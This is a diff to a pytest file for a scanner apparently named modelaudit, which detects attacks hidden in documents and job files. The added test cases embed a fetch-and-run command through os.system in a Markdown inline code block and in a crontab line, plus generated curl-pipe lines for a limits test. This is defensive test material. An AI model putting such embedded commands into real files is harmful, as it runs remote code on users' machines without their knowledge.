@@ -1,6 +1,8 @@
 from __future__ import annotations
 
 import re
+from contextlib import nullcontext
+from itertools import chain
 from pathlib import Path
 
 import pytest
@@ -8,9 +10,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from support.cases import check_each
 from support.scans import scan_text
+from support.work import count_work, find_growth_fault
 
 import modelaudit
 from modelaudit.languages import run_files
+from modelaudit.languages.document_programs import DOCUMENT_PROGRAMS, read_command_lines
+from modelaudit.languages.package_sources import LOCK_FILES, SCRIPT_SOURCES
+from modelaudit.model.artifact import Artifact
+from modelaudit.model.limits import Limits
 from modelaudit.model.outline import Outline
 from modelaudit.model.report import Extent
 from modelaudit.model.structure import UnreadReason
@@ -395,6 +402,7 @@ CALL = f"import os\nos.system('{FETCH}')\n"
         ("README.md", f"<!-- [[[cog\n{CALL}]]] -->\n[[[end]]]\n"),
         ("a.cpp.in", "// [[[cog\n// import os\n// os.system('" + FETCH + "')\n// ]]]\n// [[[end]]]\n"),
         ("a.mako", f"<%\n{CALL}%>\n"),
+        ("a.md", "It is `{python} __import__('os').system('" + FETCH + "')` here.\n"),
     ],
 )
 def test_attack_in_a_block_of_a_document_that_a_tool_runs_fails_the_scan(tmp_path: Path, name: str, text: str) -> None:
@@ -425,6 +433,7 @@ def test_example_that_no_tool_runs_or_that_shows_no_attack_passes(tmp_path: Path
     [
         ("crontab.txt", f"* * * * * {FETCH}\n"),
         ("jobs.txt", f"@reboot {FETCH}\n"),
+        ("jobs.txt", f"0 3 * * 1 A=1 {FETCH}\n"),
         ("cron.d/job", f"SHELL=/bin/sh\n*/5 * * * * root {FETCH}\n"),
         ("main.tf", f'resource "x" "a" {{ provisioner "local-exec" {{ command = "{FETCH}" }} }}\n'),
         ("job.hcl", f'config {{ command = "sh" args = ["-c", "{FETCH}"] }}\n'),
@@ -470,3 +479,32 @@ def test_command_in_prose_or_a_comment_and_a_harmless_command_pass(tmp_path: Pat
 )
 def test_base_on_the_web_of_a_python_configuration_fails_the_scan(tmp_path: Path, text: str, code: int) -> None:
     assert scan_text(tmp_path, "cfg.py", text)[0] == code
+
+
+def test_text_with_more_commands_than_are_analysed_is_reported_as_partly_unread(read_bytes) -> None:
+    lines = "".join(f"x = curl http://e.invalid/{number} | cat\n" for number in range(5_100))
+    assert UnreadReason.LIMIT in read_bytes(lines.encode(), "a.tool").reasons()
+
+
+@check_each(
+    "name, piece",
+    [
+        ("a.tool", "curl x | "), ("a.tool", "\"'"), ("a.tool", "a" + " " * 40), ("a.txt", "* "), ("a.txt", "[[[cog "),
+        ("a.py", "_base_ = [\n"), ("a.py", "# /// script\n"), ("uv.lock", '"funding": [ '), ("uv.lock", "http://a.b "),
+    ],
+)  # fmt: skip
+def test_search_for_commands_and_addresses_takes_work_in_proportion_to_the_text(
+    name: str, piece: str, bytes_window
+) -> None:
+    def search(count: int) -> int:
+        data = (piece * count).encode()
+        artifact = Artifact(name, len(data), lambda: nullcontext(bytes_window(data)))
+        readers = (LOCK_FILES if name == "uv.lock" else SCRIPT_SOURCES, DOCUMENT_PROGRAMS)
+        return count_work(
+            lambda: [
+                *chain.from_iterable(reader.read(artifact, bytes_window(data), Limits()) for reader in readers),
+                *read_command_lines(name, piece * count),
+            ]
+        )
+
+    assert find_growth_fault(search, 100) == ""
